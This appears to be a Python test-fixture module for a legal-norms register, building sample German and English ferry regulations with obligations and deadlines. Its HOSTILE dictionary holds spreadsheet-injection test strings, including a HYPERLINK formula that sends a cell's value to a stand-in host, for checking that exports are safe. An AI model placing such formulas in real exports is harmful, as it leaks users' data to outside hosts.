"""A small register of our own sentences, hostile ones among them."""

from __future__ import annotations

from datetime import date

from dutybook.reasons import reason_without_code
from dutybook.records import (
    Analysis,
    BearerClass,
    Deadline,
    DeadlineKind,
    Document,
    Evidence,
    Fact,
    FactType,
    Family,
    Genre,
    Modality,
    Norm,
    Part,
    Provision,
    ProvisionKind,
    Rejection,
    Span,
    Status,
    Strength,
    Work,
    Zone,
    content_id,
)
from dutybook.store import Register, open_register
from dutybook.store.documents.flatten import unreadable

CUE = Evidence("cue", "1", None, 0.9, "modal verb")

# What a document may say to do harm to a reader's spreadsheet or calendar, or to be lost on the way.
HOSTILE = {
    "formula": '=HYPERLINK("http://example.org/?leak="&A1,"open")',
    "plus": "+1 Stunde Frist",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "umlauts": "Fähren über 007 t müssen die Maße „größer“ führen, čeština, ελληνικά, русский",
    "leading zeros": "007",
    "scientific": "1E5",
    "escape": "_x0041_ bleibt, wie es ist",
    "calendar": "BEGIN:VEVENT; a, b \\n c",
    "markup": "<b>&amp;</b> \"quoted\" 'single'; semi",
    "astral": "𝄞 am Ende",
}


def document(
    name: str,
    sentences: dict[str, tuple[Modality, str]],
    language: str = "de",
    work: bool = True,
    published: str | None = "2026-03-01",
) -> Analysis:
    """An analysis with one norm a sentence; keys are places, values the modality and the words."""
    text = ""
    identity = content_id("test", name)
    norms, deadlines, provisions = [], [], []
    for place, (modality, words) in sentences.items():
        span = Span(len(text), len(text) + len(words))
        text += words + "\n"
        provision = content_id(identity, place)
        provisions.append(
            Provision(
                provision, None, ProvisionKind.ARTICLE, place, f"Überschrift zu {place}", span, place, Zone.ENACTING
            )
        )
        norm = Norm(
            id=content_id(identity, "norm", place),
            provision=provision,
            place=place,
            span=span,
            modality=modality,
            strength=Strength.MUST,
            bearer=Part("Betreiber", Span(span.start, span.start)),
            bearer_class=BearerClass.BUSINESS,
            action=Part(words[:30], span),
            recipient=None,
            condition=None,
            exception=None,
            evidence=CUE,
            language=language,
        )
        norms.append(norm)
        if modality is Modality.OBLIGATION:
            deadlines.append(
                Deadline(
                    id=content_id(norm.id, "fixed"),
                    norm=norm.id,
                    span=span,
                    kind=DeadlineKind.FIXED,
                    value="2027-05-01",
                    direction=None,
                    anchor=None,
                    evidence=CUE,
                    due=date(2027, 5, 1),
                    steps=("written as a date",),
                )
            )
            deadlines.append(
                Deadline(
                    id=content_id(norm.id, "period"),
                    norm=norm.id,
                    span=span,
                    kind=DeadlineKind.PERIOD,
                    value="P2D",
                    direction=None,
                    anchor=None,
                    evidence=CUE,
                    reason="the event that starts the period is not dated",
                )
            )
    tail = "Diese Verordnung tritt am 1. Juni 2026 in Kraft."
    span = Span(len(text), len(text) + len(tail))
    text += tail
    return Analysis(
        document=Document(
            id=identity,
            work="de:faehrv" if work else None,
            source=f"/akten/{name}.txt",
            sha256=content_id(name) * 4,
            language=language,
            title=f"Fährverordnung {name}",
            status=Status.READ,
            genre=Genre.STATUTE,
            family=Family.STATUTE,
            published=published,
            pages=2,
            text=text,
        ),
        work=Work("de:faehrv", "regulation", "DE", "007/2026", "FährV") if work else None,
        layout=None,
        provisions=tuple(provisions),
        norms=tuple(norms),
        deadlines=tuple(deadlines),
        facts=(
            Fact(
                content_id(identity, "f"),
                FactType.ENTRY_INTO_FORCE,
                span,
                "2026-06-01",
                CUE,
                date(2026, 6, 1),
                ("as written",),
            ),
            Fact(content_id(identity, "g"), FactType.REVIEW, span, "P2Y", CUE),
        ),
        rejections=(
            Rejection(content_id(identity, "r"), provisions[0].id if provisions else "", span, "constitutive", CUE),
        ),
    )


def hostile(**more: str) -> Register:
    """A register in memory whose norms are the hostile sentences, in that order, and ``more``."""
    sentences = {
        f"§ {i} {name}": (Modality.OBLIGATION, words) for i, (name, words) in enumerate((HOSTILE | more).items(), 1)
    }
    register = open_register(":memory:")
    register.add(document("A", sentences))
    return register


def mixed() -> Register:
    """Two documents, one in each language, with every modality, and one file that could not be read."""
    register = open_register(":memory:")
    register.add(
        document(
            "B",
            {
                "§ 1": (Modality.OBLIGATION, "Der Betreiber führt ein Logbuch bis zum 1. Mai 2027."),
                "§ 2": (Modality.PROHIBITION, "Der Betreiber darf Gäste nicht zurücklassen."),
            },
        )
    )
    register.add(
        document(
            "A",
            {
                "Art 1": (Modality.PERMISSION, "Operators may refuse wet animals."),
                "Art 2": (Modality.EXEMPTION, "Article 1 shall not apply to guide dogs."),
                "Art 3": (Modality.OBLIGATION, "Operators shall publish their timetable."),
            },
            language="en",
            work=False,
            published=None,
        )
    )
    register.write(unreadable("/akten/kaputt.pdf", "f" * 64, reason_without_code("no page tree").of_kind("broken")))
    return register
